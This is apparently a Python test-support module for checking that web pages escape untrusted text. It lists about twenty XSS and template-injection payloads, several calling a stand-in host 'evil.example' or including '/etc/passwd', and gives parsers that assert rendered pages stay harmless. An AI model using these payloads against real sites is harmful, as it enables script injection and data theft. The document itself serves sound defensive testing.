"""Texts that would run where a page took them for more than text."""

from __future__ import annotations

from html.parser import HTMLParser
from typing import Any

RUN = "document.title='run';window.ran=1;fetch('http://evil.example/')"

ATTACKS = {
    "script": f"<script>{RUN}</script>",
    "end of a script": f"</script><script>{RUN}</script>",
    "end of a title": f"</title></textarea></style><script>{RUN}</script>",
    "comment": f"--><script>{RUN}</script><!--",
    "image": f'<img src="x" onerror="{RUN}">',
    "attribute": f'" onmouseover="{RUN}" onfocus="{RUN}" autofocus="',
    "attribute, other quotes": f"' onmouseover='{RUN}' autofocus tabindex=1 x='",
    "svg": f'<svg onload="{RUN}"><script>{RUN}</script></svg>',
    "foreign object": f"<foreignObject><iframe srcdoc='<script>{RUN}</script>'></foreignObject>",
    "entities": f"&lt;script&gt;{RUN}&lt;/script&gt;&#60;script&#62;",
    "cdata": f"]]><script>{RUN}</script><![CDATA[",
    "address": f"javascript:{RUN}",
    "link": f'<a href="javascript:{RUN}">here</a>',
    "style": "<style>body{background:url(http://evil.example/)}</style>",
    "refresh": '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
    "base": '<base href="http://evil.example/">',
    "template": "{{ 77777 * 7 }} {% include '/etc/passwd' %} ${77777*7} <%= 77777*7 %>",
    "expression of Vega": f"datum.constructor.constructor(\"{RUN}\")()",
    "Markdown": f"[here](javascript:{RUN}) ![x](http://evil.example/x.png) <script>{RUN}</script>",
    "reversed": f"\u202e<script>{RUN}</script>\u2066",
    "broken": f"<scr\0ipt>{RUN}</scr\0ipt><IMG SRC=x\nOnError={RUN}>",
}  # fmt: skip


COMPUTED = "544439"
"""What a page would say that took the template for one."""


def harmless(attack: str) -> str:
    """A text of the same length without any sign, another for each attack."""
    place = list(ATTACKS.values()).index(attack)
    return f"{place:02}{'x' * (len(attack) - 2)}"


class _Structure(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, tuple[str, ...]]] = []
        self.values: dict[str, list[str]] = {}
        self.texts: list[str] = []

    def handle_starttag(self, tag: str, attrs: Any) -> None:
        self.tags.append((tag, tuple(name for name, _ in attrs)))
        for name, value in attrs:
            self.values.setdefault(name, []).append(value or "")

    def handle_data(self, data: str) -> None:
        self.texts.append(data)


def structure(page: str) -> _Structure:
    """The tags of a page with the names of their attributes, their values, and its texts."""
    parsed = _Structure()
    parsed.feed(page)
    parsed.close()
    return parsed


def require_harmless(page: str, same: str) -> None:
    """The page has the tags of the same page about harmless text, and links that lead nowhere else."""
    found, expected = structure(page), structure(same)
    assert set(found.tags) <= set(expected.tags)
    assert len([tag for tag, _ in found.tags if tag in ("script", "img", "a", "style")]) == len(
        [tag for tag, _ in expected.tags if tag in ("script", "img", "a", "style")]
    )
    for value in (*found.values.get("href", []), *found.values.get("src", [])):
        assert value.startswith(("/", "#", "?")), value
        assert not value.startswith("//"), value
    for value in found.values.get("style", []):
        assert "url" not in value
